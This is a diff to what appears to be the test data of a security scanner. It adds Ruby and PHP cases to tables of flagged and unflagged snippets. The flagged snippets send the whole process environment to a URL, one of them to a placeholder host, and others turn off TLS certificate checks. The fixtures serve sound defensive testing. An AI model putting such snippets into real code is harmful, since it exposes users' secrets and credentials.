@@ -22,6 +22,8 @@ BAD = {
         ("VERIFY = False\nhttpx.Client(verify=VERIFY)", TLS),
         ("import requests\nHOW = {'verify': False}\nrequests.get(u, **HOW)", TLS),
     ],
+    "rb": [("HTTParty.post(u, body: ENV.to_h)", SENT)],
+    "php": [("<?php file_get_contents($u . json_encode($_ENV));", SENT)],
     "js": [
         ("https.get('https://e/?d=' + btoa(JSON.stringify(process.env)));", SENT),
         ("const d = JSON.stringify(process.env); axios.post(u, d);", SENT),
@@ -50,6 +52,11 @@ GOOD = {
         "def f(verify=False):\n    requests.get(u, verify=verify)",
         "VERIFY = False\nVERIFY = load()\nrequests.get(u, verify=VERIFY)",
         "requests.get(u, verify=not insecure)",
+    ],
+    "rb": ["HTTParty.post(u, body: ENV['A'])", "puts(ENV.to_h)", "run(ENV.to_h)"],
+    "php": [
+        "<?php file_get_contents($u . $_ENV['A']);",
+        "<?php fwrite(STDERR, print_r($_ENV, true));",
     ],
     "js": [
         "app.post('/x', (req, res) => { run({ ...process.env }); });",
